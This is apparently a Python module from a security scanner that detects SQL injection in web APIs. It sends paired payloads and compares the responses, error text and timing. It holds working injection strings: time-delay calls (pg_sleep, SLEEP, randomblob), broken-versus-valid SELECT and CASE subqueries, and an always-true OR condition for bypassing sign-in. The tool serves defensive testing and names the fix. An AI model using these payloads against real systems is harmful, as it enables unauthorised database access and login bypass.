"""D401: does a value become a part of a statement of SQL?

1. Pairs of values are sent that differ for a database alone: one of each is the plain value to it, the other an error
   or never true. Any app that only knows texts takes both of a pair alike.
2. That a pair differs counts where three pairs, each written otherwise, differ in the same way: the plain ones are
   alike, and the broken ones are, or each of them has words of a database, which tell of each mistake otherwise.
3. Where nothing is seen, the time counts: a value that makes a database wait, against one that does not, five times.
   No such value is sent twice: an account whose name it became takes longer to refuse than one that is not there.
4. At a sign-in: a name that makes the condition true lets in, where the same name with a false one does not.
Nothing is sent that could change more than the plain value would: conditions that are always true go to safe methods.
"""

from collections.abc import AsyncGenerator, Callable, Sequence
from typing import Final

from buckler.drill.attack import About, Attack, Finding, Verdicts
from buckler.drill.attacks.aiming.aim import Aim
from buckler.drill.attacks.aiming.database_words import DATABASE_WORDS, without_sent
from buckler.drill.attacks.aiming.sending import Shot, behind, fired, is_firm, understood
from buckler.drill.attacks.alike import Signature, exactly, roughly
from buckler.drill.attacks.input.bypass import opened_by_condition
from buckler.drill.attacks.input.waiting import clearly_slower, unmet
from buckler.drill.attacks.input.walk import finding, walked
from buckler.drill.engagement import Engagement
from buckler.drill.plan.names import names_one
from buckler.drill.plan.route import Slot
from buckler.drill.transport.answer import Answer, Exchange
from buckler.randomness import identifier

ABOUT: Final = About(
    id="D401",
    name="SQL injection",
    family="input",
    severity="critical",
    sends="Pairs of values that only a database tells apart, and values that make a database wait.",
    proves="What callers send is run as a part of a statement of SQL.",
    cwe=(89,),
    owasp=("API8",),
    asvs=("1.2.4",),
    fix="Give values to the database as parameters, never as a part of the statement; take columns from a list.",
)
_ROUNDS: Final = 3
_WAITS: Final = (
    "'||(SELECT substr(length(randomblob(6{number}000)),1,0))||'",
    "'||(SELECT '' FROM pg_sleep(0.4{number}))||'",
    "'||SLEEP(0.4{number})||'",
)
_NO_WAITS: Final = (
    "'||(SELECT substr(length(randomblob({number})),1,0))||'",
    "'||(SELECT '' FROM pg_sleep(0.000{number}))||'",
    "'||SLEEP(0.000{number})||'",
)
_NOTICED: Final = 0.1
"""Seconds that a wait makes at least."""

Pair = tuple[Callable[[str], str], Callable[[str], str]]
Rounds = tuple[Pair, Pair, Pair]


def _joined(plain: str, broken: str) -> Pair:
    """Within quotes: the text in two parts, joined by the database; and the same with a mistake in it."""
    return (
        lambda text: text[: len(text) // 2] + plain + text[len(text) // 2 :],
        lambda text: text[: len(text) // 2] + broken + text[len(text) // 2 :],
    )


def _bare(plain: str, broken: str) -> Pair:
    """Without quotes: a number or the name of a column, looked up by the database."""
    return plain.format, broken.format


def _behind(wait: str, none: str) -> Pair:
    """Behind the text, with another number each time."""
    return lambda text: text + unmet(wait), lambda text: text + unmet(none)


def _either() -> Pair:
    """Within quotes, in a question: everything, or nothing. The words mean nothing to anybody."""
    one, other = identifier()[:8], identifier()[:8]
    return (
        lambda _: f"{other}' OR '{one}' LIKE '{one}",
        lambda _: f"{other}' OR '{one}' LIKE '{other}",
    )


_QUOTED: Final[Rounds] = (
    _joined("'||'", "'|||'"),
    _joined("'||lower('')||'", "'||lower(''||'"),
    _joined("'||''||'", "'||'||'"),
)
_UNQUOTED: Final[Rounds] = (
    _bare("(SELECT {0})", "(SELEC {0})"),
    _bare("(SELECT {0} WHERE 31=31)", "(SELECT {0} WHER 31=31)"),
    _bare("(CASE WHEN 47=47 THEN {0} ELSE {0} END)", "(CASE WHEN 47=47 THEN {0} ELSE {0} EN)"),
)
_NUMBERED: Final[Rounds] = (
    _bare("(SELECT 1)", "(SELEC 1)"),
    _bare("(SELECT 1 WHERE 31=31)", "(SELECT 1 WHER 31=31)"),
    _bare("(CASE WHEN 47=47 THEN 1 ELSE 1 END)", "(CASE WHEN 47=47 THEN 1 ELSE 1 EN)"),
)
"""The same for what names something by its number, whatever was made up for it."""
_DIRECTION: Final[Rounds] = (
    _bare("{0},(SELECT 1)", "{0},(SELEC 1)"),
    _bare("{0},(SELECT 1 WHERE 31=31)", "{0},(SELECT 1 WHER 31=31)"),
    _bare("{0},(CASE WHEN 47=47 THEN 1 ELSE 2 END)", "{0},(CASE WHEN 47=47 THEN 1 ELSE 2 EN)"),
)


def _verdicts(on: Engagement) -> Verdicts:
    return walked(on, _judge)


async def _judge(on: Engagement, aim: Aim) -> AsyncGenerator[Finding]:
    opened = await opened_by_condition(on, aim)
    if opened is not None:
        yield opened
        return
    suspects = [slot for slot in aim.strict if not await is_firm(on, aim, slot)]
    together = list(aim.free)
    if len(together) > 1 and await _taken_alike(on, aim, together):
        together = []
    found: set[Slot] = set()
    for slot in (*together, *suspects):
        for rounds in _contexts(aim, slot):
            differing = await _differing(on, aim, slot, rounds)
            if differing is not None:
                found.add(slot)
                yield finding(aim, _WORDS, differing[1], slot, differing[0])
                break
    if not found:
        async for waited in _waiting(on, aim):
            yield waited


_WORDS: Final = (
    "A value that a database reads as the plain one is served, and the same with a mistake in its SQL is not."
)


def _contexts(aim: Aim, slot: Slot) -> tuple[Rounds, ...]:
    contexts: list[Rounds] = [_QUOTED, _UNQUOTED]
    if slot in aim.free and names_one(slot.name):
        contexts.append(_NUMBERED)
    if any(word in slot.name.lower() for word in ("dir", "order", "sort")):
        contexts.append(_DIRECTION)
    if aim.route.is_safe:
        contexts.append((_either(), _either(), _either()))
    return tuple(contexts)


async def _taken_alike(on: Engagement, aim: Aim, slots: list[Slot]) -> bool:
    """Whether a first look at all places at once shows nothing: both of each pair are served, and alike."""
    contexts = [_QUOTED, _UNQUOTED, _NUMBERED, *([_DIRECTION] if aim.route.is_safe else [])]
    pairs = [rounds[0] for rounds in contexts] + ([_either()] if aim.route.is_safe else [])
    for plain, broken in pairs:
        one, other = await _both(on, aim, slots, (plain, broken))
        if one is None or other is None or not understood(aim, one.exchange) or _differ(aim, (one,), (other,)):
            return False
    return True


async def _differing(on: Engagement, aim: Aim, slot: Slot, rounds: Rounds) -> tuple[Exchange, Exchange] | None:
    """The last pair, where each of several pairs differed in the same way."""
    plain: list[Shot] = []
    broken: list[Shot] = []
    for pair in rounds[:_ROUNDS]:
        one, other = await _both(on, aim, [slot], pair)
        if one is None or other is None:
            return None
        plain.append(one)
        broken.append(other)
        if not _differ(aim, plain, broken):
            return None
    return plain[-1].exchange, broken[-1].exchange


async def _both(on: Engagement, aim: Aim, slots: list[Slot], pair: Pair) -> tuple[Shot | None, Shot | None]:
    plain, broken = pair
    one = await fired(on, aim, lambda _, text: plain(text), slots)
    return one, await fired(on, aim, lambda _, text: broken(text), slots)


def _differ(aim: Aim, plain: Sequence[Shot], broken: Sequence[Shot]) -> bool:
    """Whether all of the one kind are understood and alike, all of the other kind alike, and the kinds are not."""
    if not all(understood(aim, shot.exchange) for shot in plain):
        return False
    for signature in (exactly, roughly):
        ones, others = _signatures(plain, signature), _signatures(broken, signature)
        if len(ones) == 1 and len(others) == 1 and ones != others:
            return True
        if len(ones) == 1 and all(map(_tells, broken)) and not any(map(_tells, plain)):
            return True
    return False


def _tells(shot: Shot) -> bool:
    """Whether an answer has words of a database, which the request has not."""
    return bool(DATABASE_WORDS.search(without_sent(shot.exchange)))


def _signatures(shots: Sequence[Shot], signature: Callable[[Answer, list[object]], Signature]) -> set[Signature]:
    return {signature(shot.exchange.answer, list(shot.payloads.values())) for shot in shots}


async def _waiting(on: Engagement, aim: Aim) -> AsyncGenerator[Finding]:
    """Places where a database waits as it was told to, however its answer looks."""
    if not aim.free:
        return
    for wait, none in zip(_WAITS, _NO_WAITS, strict=True):
        shot = await fired(on, aim, behind(unmet(wait)), aim.free)
        if shot is None or shot.exchange.answer.seconds < _NOTICED:
            continue
        for slot in shot.slots:
            found = await _slower(on, aim, slot, _behind(wait, none))
            if found is not None:
                yield finding(aim, "The database waits where the value tells it to.", found[0], slot, found[1])
        return


async def _slower(on: Engagement, aim: Aim, slot: Slot, pair: Pair) -> tuple[Exchange, Exchange] | None:
    """Both of the last round, where those that wait are clearly slower than those that do not."""
    waits: list[Exchange] = []
    others: list[Exchange] = []
    apart: bool | None = None
    while apart is None:
        one, other = await _both(on, aim, [slot], pair)
        if one is None or other is None:
            return None
        waits.append(one.exchange)
        others.append(other.exchange)
        apart = clearly_slower(waits, others, _NOTICED)
    return (waits[-1], others[-1]) if apart else None


ATTACK: Final = Attack(ABOUT, _verdicts)
